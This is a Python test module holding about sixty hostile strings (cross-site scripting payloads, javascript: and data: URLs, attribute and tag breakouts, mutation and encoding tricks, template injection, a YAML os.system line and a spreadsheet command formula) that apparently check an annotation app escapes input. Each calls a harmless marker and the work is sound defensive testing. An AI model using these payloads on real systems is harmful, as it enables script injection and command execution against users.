"""Strings that try to become more than text on a page, in a spreadsheet or in a file.

Each string calls `hit`, fetches from `hit.invalid`, or creates an element or attribute of that
name. A page thus shows whether any had an effect. NUL is left out because the database rejects it
(`tests/annotation/test_hostile.py`).
"""

BACKSLASH = "\\"
STRINGS = (
    # Elements that run by themselves
    "<script>hit(1)</script>",
    "<ScRiPt src=//hit.invalid/2.js></sCrIpT>",
    "<img src=x onerror=hit(3)>",
    "<img/src/onerror=hit(4)>",
    "<svg onload=hit(5)>",
    "<svg><script>hit(6)</script></svg>",
    "<svg><animate onbegin=hit(7) attributeName=x dur=1s>",
    "<svg><foreignObject><body onload=hit(8)></foreignObject></svg>",
    "<details open ontoggle=hit(9)><x-hit>",
    "<input autofocus onfocus=hit(10)>",
    '<iframe srcdoc="<script>parent.hit(11)</script>">',
    '<iframe src="javascript:parent.hit(12)">',
    '<object data="data:text/html,<script>hit(13)</script>">',
    "<embed src=//hit.invalid/14.swf>",
    "<base href=//hit.invalid/>",
    '<meta http-equiv=refresh content="0;url=//hit.invalid/16">',
    "<link rel=stylesheet href=//hit.invalid/17.css>",
    "<style>@import '//hit.invalid/18.css';</style>",
    '<div style="background:url(//hit.invalid/19)" data-hit>',
    "<div hx-get=//hit.invalid/20 hx-trigger=load hx-on:load=hit(20)>",
    "<form id=hit action=javascript:hit(21)><button formaction=javascript:hit(21)>",
    # Addresses
    '<a href="javascript:hit(22)" data-hit>t</a>',
    '<a href="java&#x0A;script:hit(23)" data-hit>t</a>',
    '<a href="data:text/html,<script>hit(24)</script>" data-hit>t</a>',
    '<svg><a xlink:href="javascript:hit(25)"><text>t</text></a></svg>',
    '<math href="javascript:hit(26)" data-hit>t</math>',
    "javascript:hit(27)",
    "JaVaScRiPt\t:hit(28)",
    "data:text/html;base64,PHNjcmlwdD5oaXQoMjkpPC9zY3JpcHQ+",
    "[t](javascript:hit(30)) <javascript:hit(30)>",
    "![t](//hit.invalid/31.png) [t]: //hit.invalid/31",
    # Out of an attribute
    '"><script>hit(32)</script>',
    "'><img src=x onerror=hit(33)>",
    '" autofocus onfocus=hit(34) data-hit="',
    "' onmouseover='hit(35)' data-hit='",
    "` onclick=hit(36) data-hit=`",
    # Out of an element whose content is text
    "</title><script>hit(37)</script>",
    "</textarea><script>hit(38)</script>",
    "</style><script>hit(39)</script>",
    "</script><script>hit(40)</script>",
    "</option></select><img src=x onerror=hit(41)>",
    "<!--<script>hit(42)</script>-->",
    "--><img src=x onerror=hit(43)><!--",
    "]]><script>hit(44)</script><![CDATA[",
    # Read twice, or read otherwise than they are cleaned
    '<noscript><p title="</noscript><img src=x onerror=hit(45)>">',
    '<svg></p><style><a id="</style><img src=x onerror=hit(46)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit(47)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit(48)>",
    "&lt;script&gt;hit(49)&lt;/script&gt; &amp;lt;x-hit&amp;gt;",
    "+ADw-script+AD4-hit(50)+ADw-/script+AD4-",
    "\u00bcscript\u00behit(51)\u00bc/script\u00be \u00c3\u00bc<x-hit>",
    '\u202e<script>hit(52)</script>\u202c \u2066"><x-hit>\u2069',
    "<scr\ufeffipt>hit(53)</scr\ufeffipt><img src=x o\u200bnerror=hit(53)>",
    # Out of a script's text
    '"};hit(54);//',
    "'-hit(55)-'",
    f'{BACKSLASH}";hit(56);// \u2028hit(56)',
    # Templates, YAML and spreadsheets
    "{{ '<x-hit>'|safe }}{% autoescape off %}<x-hit>{% endautoescape %}",
    "{{constructor.constructor('hit(58)')()}}${hit(58)}<%= hit(58) %>",
    '!!python/object/apply:os.system ["hit"]: <x-hit>',
    "=cmd|' /C calc'!A0<x-hit>",
)  # fmt: skip


def long_text(first: int) -> str:
    """Return all strings, one per line, starting with the string number `first`."""
    turned = STRINGS[first % len(STRINGS) :] + STRINGS[: first % len(STRINGS)]
    return "\n".join(turned)


def short_text(first: int, length: int) -> str:
    """Return as many strings as fit into `length` characters, starting with number `first`."""
    fitting = [text for text in STRINGS if len(text) <= length]
    first %= len(fitting)
    text = fitting[first]
    for other in fitting[first + 1 :] + fitting[:first]:
        if len(text) + 1 + len(other) > length:
            break
        text += " " + other
    return text
